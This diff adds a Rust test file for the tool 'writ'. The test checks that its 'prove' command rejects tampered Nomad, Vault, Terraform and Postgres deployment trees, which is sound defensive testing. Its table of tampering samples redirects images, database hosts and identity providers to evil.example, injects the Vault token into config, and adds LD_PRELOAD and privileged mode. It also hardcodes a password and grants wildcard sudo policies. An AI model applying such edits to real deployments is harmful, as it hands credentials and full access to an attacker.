@@ -1,0 +1,127 @@
+//! Trees with something put in or changed beside what is modelled: `writ prove` refutes each, by
+//! its facts or because it is not what compiles.
+
+use writ_tests::verify::write_tree;
+use writ_tests::{fixture, writ};
+
+/// (file, text that is there, what is put in its place); an empty text is the file's end.
+const EDITS: [(&str, &str, &str); 30] = [
+    // Who gets the credentials.
+    ("nomad/jobs/web-app.nomad.hcl", "registry.internal/web-app:2.3.0", "evil.example/steal:1"),
+    (
+        "nomad/jobs/web-app.nomad.hcl",
+        "driver = \"docker\"",
+        "driver = \"docker\"\n      env = { LD_PRELOAD = \"/x.so\" }",
+    ),
+    (
+        "nomad/jobs/web-app.nomad.hcl",
+        "driver = \"docker\"",
+        "driver = \"docker\"\n      kind = \"connect-proxy:x\"",
+    ),
+    ("nomad/jobs/web-app.nomad.hcl", "image =", "privileged = true\n        image ="),
+    ("nomad/jobs/web-app.nomad.hcl", "    network {", "    network {\n      mode = \"host\""),
+    ("nomad/jobs/web-app.nomad.hcl", "    count = 1", "    count = 500"),
+    ("nomad/jobs/web-app.nomad.hcl", "type        = \"service\"", "type        = \"sysbatch\""),
+    ("nomad/jobs/web-app.nomad.hcl", "  group", "  parameterized {\n  }\n\n  group"),
+    (
+        "nomad/jobs/web-app.nomad.hcl",
+        "  group",
+        "  group \"other\" {\n    task \"t\" {\n      driver = \"exec\"\n    }\n  }\n\n  group",
+    ),
+    // Where they go.
+    ("nomad/jobs/web-app.nomad.hcl", "\"host\": \"accounts-db.internal\"", "\"host\": \"evil.example\""),
+    ("nomad/jobs/web-app.nomad.hcl", "\"sslmode\": \"verify-full\"", "\"sslmode\": \"disable\""),
+    (
+        "nomad/jobs/web-app.nomad.hcl",
+        "\"db\":",
+        "\"x\": {{ mustEnv \"VAULT_TOKEN\" | toJSON }},\n            \"db\":",
+    ),
+    (
+        "nomad/jobs/web-app.nomad.hcl",
+        "      template {",
+        "      template {\n        destination = \"secrets/config.json\"\n        data = \"{{ key `a` }}\"\n      }\n\n      template {",
+    ),
+    // How logins are made.
+    ("postgres/accounts/webapp_web-app_accounts.creation.sql", "'{{password}}'", "'hunter2'"),
+    (
+        "postgres/accounts/webapp_web-app_accounts.creation.sql",
+        "VALID UNTIL '{{expiration}}'",
+        "VALID UNTIL 'infinity'",
+    ),
+    ("postgres/accounts/webapp_web-app_accounts.creation.sql", " VALID UNTIL '{{expiration}}'", ""),
+    (
+        "vault/database/config/webapp_accounts.json",
+        "\"plugin_name\"",
+        "\"plugin_version\": \"v9\",\n  \"plugin_name\"",
+    ),
+    (
+        "vault/auth/jwt-nomad/role/webapp_web-app.json",
+        "\"nomad_job_id\": \"nomad_job_id\"",
+        "\"nomad_job_id\": \"admin\"",
+    ),
+    // Terraform: who issues identities, and what runs with the deployer's rights.
+    (
+        "terraform/variables.tf",
+        "type        = string",
+        "type        = string\n  default     = \"https://evil.example\"",
+    ),
+    ("terraform/variables.tf", "  ephemeral   = true\n", ""),
+    ("terraform/versions.tf", "hashicorp/vault", "evil/vault"),
+    ("terraform/vault.tf", "", "provider \"vault\" {\n  address = \"https://evil.example\"\n}\n"),
+    ("terraform/vault.tf", "", "data \"external\" \"x\" {\n  program = [\"sh\", \"-c\", \"true\"]\n}\n"),
+    ("terraform/vault.tf", "", "import {\n  to = vault_policy.webapp_web-app\n  id = \"admin\"\n}\n"),
+    ("terraform/vault.tf", "", "output \"x\" {\n  value = 1\n}\n"),
+    ("terraform/vault.tf", "jwks_url = var.nomad_jwks_url", "jwks_url = var.other"),
+    // Files that nothing compiles to.
+    (
+        "terraform/variables_override.tf",
+        "",
+        "variable \"nomad_jwks_url\" {\n  default = \"https://evil.example\"\n}\n",
+    ),
+    ("vault/policies/admin.hcl", "", "path \"*\" {\n  capabilities = [\"sudo\"]\n}\n"),
+    ("deployer/policy.hcl", "", "path \"*\" {\n  capabilities = [\"sudo\"]\n}\n"),
+    // The report itself.
+    ("access.json", "\"stack\": \"webapp\"", "\"stack\": \"other\""),
+];
+
+#[test]
+fn whatever_is_put_into_a_tree_is_refuted() {
+    let clean = writ_disk::tree(&fixture("webapp").join("out")).unwrap();
+    let mut proved = Vec::new();
+    for (file, from, to) in EDITS {
+        let mut tree = clean.clone();
+        let text = tree.entry(file.to_owned()).or_default();
+        if from.is_empty() {
+            text.push_str(to);
+        } else {
+            assert!(text.contains(from), "{from:?} is not in {file}");
+            *text = text.replacen(from, to, 1);
+        }
+        let folder = tempfile::tempdir().unwrap();
+        write_tree(folder.path(), &tree).unwrap();
+        let output = writ(&["prove", "fixtures/webapp", "--tree", folder.path().to_str().unwrap()]).unwrap();
+        let said = String::from_utf8_lossy(&output.stderr).into_owned();
+        if output.status.code() != Some(1) || !said.contains(file) {
+            proved.push(format!("{file}: {to:?}: {:?} {said}", output.status.code()));
+        }
+    }
+    assert!(proved.is_empty(), "{}", proved.join("\n"));
+}
+
+/// What terraform would apply beside the tree is told by `compile`, and stops the hook.
+#[test]
+fn a_stray_file_is_told_and_stops_the_hook() {
+    let folder = tempfile::tempdir().unwrap();
+    let out = folder.path().join("out");
+    let arguments = ["compile", "fixtures/webapp", "--out", out.to_str().unwrap()];
+    assert!(writ(&arguments).unwrap().status.success());
+    let stray = out.join("terraform/z.tf");
+    std::fs::write(&stray, "resource \"vault_policy\" \"x\" {}\n").unwrap();
+    let again = writ(&arguments).unwrap();
+    assert!(again.status.success());
+    assert!(String::from_utf8_lossy(&again.stdout).contains("terraform/z.tf"));
+    assert!(stray.exists(), "what writ did not make it leaves");
+    let hook = writ(&[&arguments[..], &["--check"]].concat()).unwrap();
+    assert_eq!(hook.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&hook.stdout).contains("terraform/z.tf"));
+}
